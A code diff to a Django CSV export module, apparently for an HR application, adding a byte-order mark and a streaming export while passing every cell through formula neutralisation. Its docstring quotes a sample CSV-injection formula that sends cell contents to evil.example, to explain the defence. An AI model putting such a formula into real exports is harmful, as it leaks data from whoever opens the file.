@@ -1,5 +1,9 @@
 """The one CSV writer behind every export (status board today; candidates, interviews…).
 
+Every export starts with a UTF-8 byte-order mark, so spreadsheet programs read accented
+names (Chloé, Łukasz) as they are written instead of guessing a legacy encoding. A big
+export streams (`stream_csv`): rows are written as they are produced, never held at once.
+
 A spreadsheet treats a cell that starts with = + - @ (or a tab or carriage return, which
 some programs skip before reading the formula) as a formula: a requisition title
 `=HYPERLINK("http://evil.example/?leak="&A3,"Open")` written as it is would run in HR's
@@ -13,9 +17,10 @@ import datetime
 from collections.abc import Iterable, Sequence
 from decimal import Decimal
 
-from django.http import HttpResponse
+from django.http import HttpResponse, StreamingHttpResponse
 
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
+BOM = "\ufeff"
 
 
 def neutralise_cell(value):
@@ -40,8 +45,38 @@ def write_csv(target, rows: Iterable[Sequence], *, header: Sequence[str] | None 
         writer.writerow([neutralise_cell(cell) for cell in row])
 
 
-def csv_response(filename: str) -> HttpResponse:
-    """An attachment response to `write_csv` into. The file name is ours, never user text."""
-    response = HttpResponse(content_type="text/csv; charset=utf-8")
+def _attachment(response, filename: str):
+    # The file name is ours, never user text.
     response["Content-Disposition"] = f'attachment; filename="{filename}"'
     return response
+
+
+def csv_response(filename: str) -> HttpResponse:
+    """An attachment response to `write_csv` into, its byte-order mark already written."""
+    response = HttpResponse(content_type="text/csv; charset=utf-8")
+    response.write(BOM)
+    return _attachment(response, filename)
+
+
+class _Line:
+    """A file-like target that hands back what the csv writer writes (one row)."""
+
+    def write(self, value: str) -> str:
+        return value
+
+
+def stream_csv(
+    filename: str, rows: Iterable[Sequence], *, header: Sequence[str]
+) -> StreamingHttpResponse:
+    """An attachment that streams: the byte-order mark and `header`, then each row of the
+    iterable as it comes, every cell through `neutralise_cell`. The response holds one row
+    at a time; `rows` decides how much it reads ahead."""
+    writer = csv.writer(_Line())
+
+    def lines():
+        yield BOM + writer.writerow([neutralise_cell(cell) for cell in header])
+        for row in rows:
+            yield writer.writerow([neutralise_cell(cell) for cell in row])
+
+    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
+    return _attachment(response, filename)
